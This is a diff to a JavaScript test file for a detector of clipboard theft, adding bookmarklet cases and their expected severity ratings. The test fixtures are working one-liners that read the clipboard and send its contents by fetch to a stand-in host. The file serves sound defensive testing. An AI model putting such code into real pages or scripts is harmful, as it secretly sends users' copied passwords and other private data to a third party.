@@ -21,9 +21,14 @@ describe("clipboard-theft", () => {
 			),
 		],
 		[
-			"a bookmarklet that sends it: look at it",
+			"a bookmarklet that sends it and uses the answer: look at it",
 			["medium 1"],
-			`navigator.clipboard.readText().then(t=>fetch("https://c.stranger.test/?t="+t))`,
+			`navigator.clipboard.readText().then(t=>fetch("https://c.stranger.test/?t="+t)).then(async r=>alert(await r.text()))`,
+		],
+		[
+			"a bookmarklet that sends it and lets the answer be",
+			["high 1"],
+			`navigator.clipboard.readText().then(t=>fetch("https://c.stranger.test/?t="+t)).then(()=>alert("done"))`,
 		],
 	])("finds %s", (_title, expected, code) => {
 		expect(findIn(clipboardTheft, code)).toEqual(expected);
